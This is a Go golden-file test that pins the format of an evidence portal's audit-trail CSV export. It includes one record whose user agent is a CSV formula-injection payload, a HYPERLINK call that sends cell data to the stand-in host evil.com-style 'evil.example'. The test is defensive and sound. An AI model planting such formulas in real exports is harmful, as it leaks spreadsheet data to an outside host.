package web

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"testing"

	"github.com/ofsted-portal/evidence/portal/store"
)

var updateGolden = flag.Bool("update", false, "write the golden vectors in testdata")

// TestGoldenAuditCSV: the CSV export of the trail is kept by records
// managers and read by their tools, so its columns and how each value is
// written are pinned: the pinned records of the chain's own vectors
// (portal/store/testdata/audit-v1.json), and one whose user agent a
// spreadsheet would run as a formula, exported as written once to
// testdata/audit-export-v1.csv.
func TestGoldenAuditCSV(t *testing.T) {
	b, err := os.ReadFile("../portal/store/testdata/audit-v1.json")
	if err != nil {
		t.Fatal(err)
	}
	var v struct {
		Records []store.AuditRecord `json:"records"`
	}
	if err := json.Unmarshal(b, &v); err != nil || len(v.Records) == 0 {
		t.Fatalf("audit vectors: %d records, %v", len(v.Records), err)
	}
	formula := v.Records[len(v.Records)-1]
	formula.Seq++
	formula.UserAgent = `=HYPERLINK("http://evil.example/?d="&A1,"Open")`
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	w.Write(auditCSVHeader)
	for _, r := range append(v.Records, formula) {
		w.Write(auditCSVRow(r))
	}
	w.Flush()
	if *updateGolden {
		if err := os.WriteFile("testdata/audit-export-v1.csv", out.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile("testdata/audit-export-v1.csv")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out.Bytes(), want) {
		t.Fatalf("the CSV export changed:\n got  %s\n want %s", out.Bytes(), want)
	}
}
